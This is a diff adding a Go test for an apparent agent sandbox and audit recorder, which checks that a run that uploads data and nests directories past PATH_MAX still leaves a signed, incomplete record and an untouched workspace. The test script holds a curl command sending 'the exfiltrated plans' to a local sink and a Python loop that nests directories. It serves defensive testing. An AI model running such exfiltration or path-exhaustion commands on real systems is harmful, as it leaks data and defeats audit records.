@@ -518,3 +518,62 @@ func TestRunHasItsOwnTmp(t *testing.T) {
 		})
 	}
 }
+
+// TestCaptureFailureKeepsTheRecordUnprivileged: as an unprivileged user
+// (whose overlay keeps its marks in user.* xattrs), an agent that uploads
+// something through the proxy and then nests directories past PATH_MAX
+// still leaves a signed, incomplete bundle with network.har, policy.json
+// and its logs, and the workspace untouched. TestCaptureFailureKeepsTheAuditRecord
+// is the root case.
+func TestCaptureFailureKeepsTheRecordUnprivileged(t *testing.T) {
+	t.Parallel()
+	suiteIsRoot(t)
+	var got atomic.Value
+	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		got.Store(string(b))
+		io.WriteString(w, "stored\n")
+	}))
+	defer sink.Close()
+	host := strings.TrimPrefix(sink.URL, "http://")
+	home, _, _ := hostileHome(t, true)
+	ws := userMkdir(t, userDir(t), "ws")
+	userWrite(t, filepath.Join(ws, "kept.txt"), []byte("before\n"), 0o644)
+	before := treeHash(t, ws)
+	pol := userWrite(t, filepath.Join(userDir(t), "allow.rego"), []byte("package dal\n\nimport rego.v1\n\ndecision := {\"action\": \"allow\", \"reason\": \"audited\"} if input.kind == \"http\"\n"), 0o644)
+	out := filepath.Join(userDir(t), "bundle")
+	script := `/usr/bin/curl -s --max-time 20 --data-binary "the exfiltrated plans" "$SINK/up"
+echo changed > kept.txt
+/usr/bin/python3 -c '
+import os
+for i in range(30):
+    os.mkdir("d" * 200)
+    os.chdir("d" * 200)
+print("nested past PATH_MAX")'`
+	// --policy runs dal-exec-full, beside dal-exec.
+	bins := userDir(t)
+	dal := userCopy(t, bin.exec, bins, 0o755)
+	userCopy(t, bin.full, bins, 0o755)
+	key := filepath.Join(userDir(t), "k")
+	r := asUser(t, home, ws, []string{"DAL_KEY=" + key, "SINK=" + sink.URL},
+		dal, "record", "--policy", pol, "--allow-loopback", host, "--keep-env", "SINK", "--out", out, "--", "sh", "-c", script)
+	if r.code != 2 || !strings.Contains(r.stderr, "written and signed as incomplete") || !strings.Contains(r.stdout, "stored\n") ||
+		!strings.Contains(r.stdout, "nested past PATH_MAX") {
+		t.Fatalf("record: exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
+	}
+	if s, _ := got.Load().(string); s != "the exfiltrated plans" {
+		t.Errorf("the server got %q", s)
+	}
+	if treeHash(t, ws) != before {
+		t.Error("the workspace changed")
+	}
+	for rel, want := range map[string]string{"network.har": "the exfiltrated plans", "policy.json": "audited", "logs/stdout": "nested past PATH_MAX"} {
+		if b, err := os.ReadFile(filepath.Join(out, rel)); err != nil || !strings.Contains(string(b), want) {
+			t.Errorf("the incomplete bundle's %s lacks %q: %v", rel, want, err)
+		}
+	}
+	v := asUser(t, home, bins, []string{"DAL_KEY=" + key}, dal, "verify", out)
+	if !strings.Contains(v.stdout, "incomplete") {
+		t.Errorf("verify: exit %d\n%s%s", v.code, v.stdout, v.stderr)
+	}
+}
